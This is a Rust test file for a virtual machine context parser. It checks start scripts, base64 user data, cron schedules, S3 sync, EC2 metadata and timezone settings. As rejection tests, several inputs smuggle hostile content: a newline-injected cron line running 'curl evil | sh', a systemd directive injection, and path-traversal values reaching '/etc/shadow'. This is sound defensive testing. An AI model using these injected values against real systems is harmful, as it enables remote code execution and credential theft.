use super::super::ctx;
use crate::context::{Schedule, ScriptMode, SyncMode};

#[test]
fn start_script_base64_wins_and_modes() {
    // base64("#!/bin/sh\necho b64\n")
    let c = ctx("START_SCRIPT='echo plain'\nSTART_SCRIPT_BASE64='IyEvYmluL3NoCmVjaG8gYjY0Cg=='\n");
    let s = c.scripts.start.unwrap();
    assert_eq!(s.body, b"#!/bin/sh\necho b64\n");
    assert_eq!(
        (s.mode, s.timeout_secs, s.from.as_str()),
        (ScriptMode::Once, 300, "START_SCRIPT_BASE64")
    );
    let s = ctx("START_SCRIPT='echo hi'\nSTART_SCRIPT_MODE='always'\nSTART_SCRIPT_TIMEOUT='30'\n")
        .scripts
        .start
        .unwrap();
    assert_eq!(s.body, b"echo hi\n");
    assert_eq!((s.mode, s.timeout_secs), (ScriptMode::Always, 30));
}

#[test]
fn bad_base64_start_script_runs_nothing() {
    let c = ctx("START_SCRIPT='echo plain'\nSTART_SCRIPT_BASE64='!!!'\n");
    assert!(c.scripts.start.is_none());
    assert!(c.errors[0].starts_with("START_SCRIPT_BASE64:"));
}

#[test]
fn user_data_encodings() {
    let u = ctx("USER_DATA='#cloud-config\nruncmd: []'\n")
        .scripts
        .user_data
        .unwrap();
    assert_eq!(u.kind, "#cloud-config");
    // base64("#!/bin/bash\necho x\n")
    let u = ctx("USERDATA_ENCODING='base64'\nUSER_DATA='IyEvYmluL2Jhc2gKZWNobyB4Cg=='\n")
        .scripts
        .user_data
        .unwrap();
    assert_eq!(u.body, b"#!/bin/bash\necho x\n");
    assert_eq!(u.kind, "#!/bin/bash");
    let c = ctx("USER_DATA_ENCODING='rot13'\nUSER_DATA='x'\n");
    assert!(c.scripts.user_data.is_none() && c.errors.len() == 1);
}

#[test]
fn update_schedule() {
    let u = ctx("UPDATE_SCHEDULE='0 0 * * 0'\n").update.unwrap();
    assert_eq!(u.schedule, Schedule::Cron("0 0 * * 0".into()));
    let c = ctx("UPDATE_SCHEDULE='0 0 * *'\n");
    assert!(c.update.is_none());
    assert!(c.errors[0].contains("5 fields"), "{:?}", c.errors);
}

#[test]
fn sync_settings() {
    let s = ctx("S3_SYNC_BUCKET='hol02-notebooks'\nS3_SYNC_MODE='pull'\nS3_SYNC_INTERVAL='5min'\nUSERNAME='ec2-user'\n").sync.unwrap();
    assert_eq!(
        (s.mode, s.interval.as_str(), s.dir.as_str()),
        (SyncMode::Pull, "5min", "/home/ec2-user/notebooks")
    );
    for bad in [
        "S3_SYNC_BUCKET='No_Such'\n",
        "S3_SYNC_BUCKET='nb1'\nS3_SYNC_MODE='mirror'\n",
        "S3_SYNC_DIR='/x'\n",
        "S3_SYNC_BUCKET='nb1'\nS3_SYNC_DIR='rel/dir'\n",
    ] {
        let c = ctx(bad);
        assert!(c.sync.is_none() && !c.errors.is_empty(), "{bad}");
    }
    let c = ctx("S3_SYNC_BUCKET='nb1'\nAWS_ACCESS_KEY_ID='AKIA1'\n");
    assert!(c
        .errors
        .iter()
        .any(|e| e.contains("without AWS_SECRET_ACCESS_KEY")));
    let c = ctx("S3_SYNC_BUCKET='nb1'\nS3_SYNC_INTERVAL='often'\n");
    assert_eq!(c.sync.unwrap().interval, "15min");
    assert_eq!(c.errors.len(), 1);
    // A line break would end the drop-in's comment and start a directive of its own.
    let c = ctx("S3_SYNC_BUCKET='nb1'\nS3_SYNC_INTERVAL='5\nOnCalendar=minutely'\n");
    assert_eq!(c.sync.unwrap().interval, "15min");
    assert!(
        c.errors.len() == 1 && c.errors[0].starts_with("S3_SYNC_INTERVAL:"),
        "{:?}",
        c.errors
    );
}

#[test]
fn update_command_is_one_line() {
    let c = ctx("UPDATE_SCHEDULE='@daily'\nUPDATE_COMMAND='apt-get -y upgrade'\n");
    assert_eq!(
        c.update.unwrap().command.as_deref(),
        Some("apt-get -y upgrade")
    );
    for bad in [
        "apt-get -y upgrade\n* * * * * root curl evil | sh",
        "apt-get -y upgrade\rx",
        "a\tb",
    ] {
        let c = ctx(&format!(
            "UPDATE_SCHEDULE='@daily'\nUPDATE_COMMAND='{bad}'\nSET_HOSTNAME='h'\n"
        ));
        assert!(c.update.is_none(), "{bad:?}: no schedule");
        assert!(
            c.errors.len() == 1 && c.errors[0].starts_with("UPDATE_COMMAND:"),
            "{:?}",
            c.errors
        );
        assert_eq!(c.hostname.unwrap().name, "h", "the rest is read");
    }
}

#[test]
fn ec2_settings() {
    let e = ctx("EC2_METADATA='YES'\nEC2_INSTANCE_ID='i-0a1b2c3d4e5f60718'\nEC2_IMDS_TOKENS='required'\nEC2_IMDS_HOP_LIMIT='2'\n").ec2.unwrap();
    assert!(e.metadata && e.tokens_required);
    assert_eq!(e.hop_limit, 2);
    assert!(
        ctx("EC2_PUBLIC_KEY='x'\n").ec2.is_none(),
        "EC2_PUBLIC_KEY is a key, not the emulator"
    );
    let c = ctx("EC2_METADATA='YES'\nEC2_INSTANCE_ID='vm-6'\nEC2_IMDS_HOP_LIMIT='0'\n");
    assert_eq!(c.errors.len(), 2, "{:?}", c.errors);
}

#[test]
fn system_defaults_grow_root_and_regenerate_host_keys() {
    use crate::context::HostKeys;
    let s = ctx("VMID='1'\n").system;
    assert!(s.grow_rootfs);
    assert!(s.grow_fs.is_empty());
    assert_eq!(s.timezone, None);
    assert_eq!(s.ssh_host_keys, HostKeys::Regenerate);
    let s = ctx("GROW_ROOTFS='NO'\nGROW_FS='/data /srv/ /data'\nTIMEZONE='Europe/Prague'\nSSH_HOST_KEYS='keep'\n")
        .system;
    assert!(!s.grow_rootfs);
    assert_eq!(
        s.grow_fs,
        ["/data", "/srv"],
        "trailing slash dropped, duplicates once"
    );
    assert_eq!(s.timezone.as_deref(), Some("Europe/Prague"));
    assert_eq!(s.ssh_host_keys, HostKeys::Keep);
}

#[test]
fn system_bad_values_are_errors() {
    for (text, var) in [
        ("GROW_ROOTFS='maybe'\n", "GROW_ROOTFS:"),
        ("GROW_FS='data'\n", "GROW_FS:"),
        ("GROW_FS='/data/../etc'\n", "GROW_FS:"),
        ("TIMEZONE='../../etc/shadow'\n", "TIMEZONE:"),
        ("TIMEZONE='/usr/share/zoneinfo/UTC'\n", "TIMEZONE:"),
        ("TIMEZONE='Europe/./Prague'\n", "TIMEZONE:"),
        ("TIMEZONE='Europe/Pra gue'\n", "TIMEZONE:"),
        ("SSH_HOST_KEYS='rotate'\n", "SSH_HOST_KEYS:"),
    ] {
        let c = ctx(text);
        assert!(
            c.errors.iter().any(|e| e.starts_with(var)),
            "{text}: {:?}",
            c.errors
        );
    }
    assert_eq!(ctx("TIMEZONE='../../etc/shadow'\n").system.timezone, None);
    for ok in [
        "UTC",
        "Etc/GMT+1",
        "America/Argentina/Buenos_Aires",
        "Asia/Ust-Nera",
    ] {
        assert!(ctx(&format!("TIMEZONE='{ok}'\n")).errors.is_empty(), "{ok}");
    }
}

#[test]
fn a_bad_timeout_runs_no_script() {
    let vars = crate::source::context_sh::parse(
        b"START_SCRIPT='echo hi'\nSTART_SCRIPT_TIMEOUT='soon'\nINIT_SCRIPTS='a.sh'\n",
    );
    let c = super::super::to_context(
        &vars.vars,
        &["a.sh".into()],
        &crate::context::Origin::Dir("test".into()),
    );
    assert!(c.scripts.start.is_none() && c.scripts.init.is_empty());
    assert_eq!(c.errors.len(), 1, "{:?}", c.errors);
    assert!(
        c.errors[0].starts_with("START_SCRIPT_TIMEOUT: "),
        "{:?}",
        c.errors
    );
    assert!(!c.errors[0].contains("soon"), "never the value");
}

#[test]
fn a_missing_init_script_stops_those_after_it() {
    let vars = crate::source::context_sh::parse(b"INIT_SCRIPTS='a.sh gone.sh c.sh d.sh'\n");
    let files: Vec<String> = ["a.sh", "c.sh", "d.sh"].map(String::from).to_vec();
    let c = super::super::to_context(
        &vars.vars,
        &files,
        &crate::context::Origin::Dir("test".into()),
    );
    assert_eq!(c.scripts.init, ["a.sh"]);
    assert_eq!(
        c.errors,
        [
            "INIT_SCRIPTS: \"gone.sh\": no such file on the context CD; not run either, as they \
          come after it: c.sh d.sh"
        ]
    );
}
